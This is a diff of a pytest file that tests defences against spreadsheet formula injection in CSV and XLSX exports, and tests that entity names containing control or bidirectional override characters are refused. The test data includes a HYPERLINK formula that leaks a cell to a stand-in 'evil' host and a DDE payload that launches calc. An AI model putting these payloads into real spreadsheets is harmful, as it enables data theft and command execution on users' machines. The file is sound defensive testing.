@@ -1,5 +1,6 @@
 """Formula injection: every CSV and XLSX the project writes shows hostile text as text (OWASP
-CSV injection: a quote before =, +, -, @, tab, CR), money stays a number, and names refuse
+CSV injection: in CSV a quote before =, +, -, @, tab, CR; in XLSX a string cell with the
+quote prefix style, its text exactly the name), money stays a number, and names refuse
 control characters with a 422 naming the field."""
 
 import csv
@@ -10,11 +11,19 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from services.kit.exports import cell
+from services.kit.exports import Sheet, cell, reads_as_formula, workbook
 from tests.claims.support_claims import CLAIMS, day, enrolled_member, hospital_stay
 from tests.support import ADMIN, AUDITOR, enrol, new_member, new_plan, new_unit, plan_body
 
 ROOT = Path(__file__).resolve().parents[1]
+# What writes a spreadsheet or one of its cells: a CSV writer, a workbook, a row appended to a
+# sheet, ws.cell(...), a cell's .value, ws["A1"] = ..., a write-only cell.
+WRITERS = re.compile(
+    r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|\bWriteOnlyCell\("
+    r"|\.append\(\[|\b(?:ws|sheet|worksheet|\w+_sheet)\.append\("
+    r"|\.cell\(|\.value\s*=(?!=)"
+    r"|\[\s*f?[\"'][A-Za-z]{1,3}(?:\d|\{)[^\]]*\]\s*=(?!=)"
+)
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil/?leak="&A1,"click")',
     "+1+cmd|' /C calc'!A0",
@@ -54,7 +63,7 @@ class TestEnrollmentReportExports:
         assert names == sorted("'" + name for name in hostile_units)
         assert rows[-1][5] == f"{36.5 * len(hostile_units):.2f}"  # money: exact, unprefixed
 
-    async def test_the_xlsx_has_no_formula_and_quotes_every_hostile_name(
+    async def test_the_xlsx_shows_every_hostile_name_exactly_as_quoted_text(
         self, members, hostile_units
     ):
         response = await members.get(
@@ -64,9 +73,13 @@ class TestEnrollmentReportExports:
         )
         cells = _xlsx_cells(response.content)
         assert [c.coordinate for c in cells if c.data_type == "f"] == []
-        texts = {c.value for c in cells if isinstance(c.value, str)}
-        assert {"'" + name for name in hostile_units} <= texts
-        assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)
+        hostile = [c for c in cells if c.value in hostile_units]
+        # each name once, as it is (no visible '), a string cell Excel keeps as text
+        assert sorted(c.value for c in hostile) == sorted(hostile_units)
+        assert [(c.data_type, c.quotePrefix) for c in hostile] == [("s", True)] * len(hostile)
+        assert not any(isinstance(c.value, str) and c.value.startswith("'") for c in cells)
+        plain = [c for c in cells if c.value in ("单位名称", "合计")]
+        assert plain and not any(c.quotePrefix for c in plain)  # only what reads as a formula
         money = [c.value for c in cells if c.number_format == "0.00"]
         assert money and all(isinstance(value, int | float) for value in money)
 
@@ -101,7 +114,9 @@ class TestClaimsReportExports:
         assert response.status_code == 200, response.text
         cells = _xlsx_cells(response.content)
         assert [c.coordinate for c in cells if c.data_type == "f"] == []
-        assert "'-2-1" in {c.value for c in cells}
+        code = [c for c in cells if c.value == "-2-1"]
+        assert code and all((c.data_type, c.quotePrefix) == ("s", True) for c in code)
+        assert "'-2-1" not in {c.value for c in cells}
 
 
 class TestOneWriter:
@@ -118,17 +133,61 @@ class TestOneWriter:
     def test_text_is_neutralised_and_only_computed_numbers_stay_numbers(self, text, written):
         from decimal import Decimal
 
-        assert cell(text, "csv") == cell(text, "xlsx") == written
+        assert cell(text, "csv") == written
+        assert cell(text, "xlsx") == text  # quoted by the cell's style, not by a '
         assert cell(Decimal("-1.50"), "csv") == "-1.50"
         assert cell(Decimal("-1.50"), "xlsx") == Decimal("-1.50")
 
+    @pytest.mark.parametrize(
+        "text", ["=1+2", "\tcmd", "a;@SUM(1)", "-1", "@x", "张三", "a-b", "'=already quoted"]
+    )
+    def test_an_xlsx_cell_is_the_text_itself_quoted_when_it_reads_as_a_formula(self, text):
+        book = workbook([Sheet("s", ["名称"], [[text]])])
+        buffer = io.BytesIO()
+        book.save(buffer)
+        written = load_workbook(io.BytesIO(buffer.getvalue())).active["A2"]
+        assert (written.value, written.data_type) == (text, "s")
+        assert written.quotePrefix is reads_as_formula(text)
+
+    @pytest.mark.parametrize(
+        "line",
+        [
+            "writer = csv.writer(buffer)",
+            "book = Workbook()",
+            "ws.append([name])",
+            "ws.append(row)",
+            "report_sheet.append(values)",
+            'ws.cell(row=2, column=1, value="=1+2")',
+            "ws.cell(2, 1).value = name",
+            "target.value = name",
+            'ws["A1"] = name',
+            "ws['B12'] = name",
+            'ws[f"A{line}"] = name',
+            "WriteOnlyCell(ws, value=name)",
+        ],
+    )
+    def test_the_writer_check_sees_every_way_to_write_a_cell(self, line):
+        assert WRITERS.search(line), line
+
+    @pytest.mark.parametrize(
+        "line",
+        [
+            "columns[index] = field",
+            'body["code"] = self.code',
+            'sheet["A2"].number_format = sheet["C2"].number_format = "@"',
+            "rows.append(total)",
+            "if written.value == name:",
+        ],
+    )
+    def test_the_writer_check_leaves_other_code_alone(self, line):
+        assert not WRITERS.search(line), line
+
     def test_no_module_writes_a_spreadsheet_but_services_exports(self):
-        writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|\.append\(\[")
         found = [
             str(path.relative_to(ROOT))
             for package in ("members_api", "claims_api", "services")
             for path in (ROOT / package).rglob("*.py")
-            if writers.search(path.read_text(encoding="utf-8"))
+            if WRITERS.search(path.read_text(encoding="utf-8"))
         ]
         assert found == ["services/kit/exports.py"]
 
@@ -167,4 +226,55 @@ class TestNamesRefuseControlCharacters:
         from members_api.units.schemas import UnitCreate
 
         schema = UnitCreate.model_json_schema()
-        assert schema["properties"]["name"]["pattern"] == r"^[^\x00-\x1f\x7f-\x9f]*$"
+        pattern = r"^[^\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]*$"
+        assert schema["properties"]["name"]["pattern"] == pattern
+
+
+# Embeddings, overrides and isolates: U+202E before "LTD" shows it as "DTL".
+BIDI_CONTROLS = [
+    "\u202a",
+    "\u202b",
+    "\u202c",
+    "\u202d",
+    "\u202e",
+    "\u2066",
+    "\u2067",
+    "\u2068",
+    "\u2069",
+]
+
+
+class TestNamesRefuseBidiControls:
+    @pytest.mark.parametrize("bidi", BIDI_CONTROLS, ids=[f"U+{ord(c):04X}" for c in BIDI_CONTROLS])
+    async def test_unit_and_contact_names(self, members, bidi):
+        for field in ("name", "contact_name"):
+            body = {"name": "第一机床厂", field: f"第一机床厂{bidi}LTD"}
+            response = await members.post("/api/v1/units", json=body, headers=ADMIN)
+            assert response.status_code == 422, response.text
+            assert response.json()["errors"][0]["loc"] == [field]
+
+    async def test_a_member_a_plan_and_a_hospital_name(self, members, api):
+        unit = await new_unit(members)
+        body = {"national_id": "11010519491231002X", "name": "王\u202e芳", "unit_id": unit}
+        response = await members.post("/api/v1/members", json=body, headers=ADMIN)
+        assert response.status_code == 422, response.text
+        assert response.json()["errors"][0]["loc"] == ["name"]
+
+        response = await members.post(
+            "/api/v1/plans", json=plan_body("MED-2026", name="互助\u2067计划"), headers=ADMIN
+        )
+        assert response.status_code == 422, response.text
+        assert response.json()["errors"][0]["loc"] == ["name"]
+
+        enrolled = await enrolled_member(api)
+        facts = hospital_stay(day(3, 1), hospital="第一\u202d医院")
+        response = await api.post(CLAIMS, json=enrolled.claim(facts), headers=enrolled.member)
+        assert response.status_code == 422, response.text
+        assert "hospital" in response.json()["detail"]
+
+    async def test_right_to_left_names_are_taken(self, members):
+        # Hebrew and Arabic letters, and the right-to-left mark: no override
+        for name in ("שלום", "مصنع\u200fالأول"):
+            response = await members.post("/api/v1/units", json={"name": name}, headers=ADMIN)
+            assert response.status_code == 201, response.text
+            assert response.json()["name"] == name
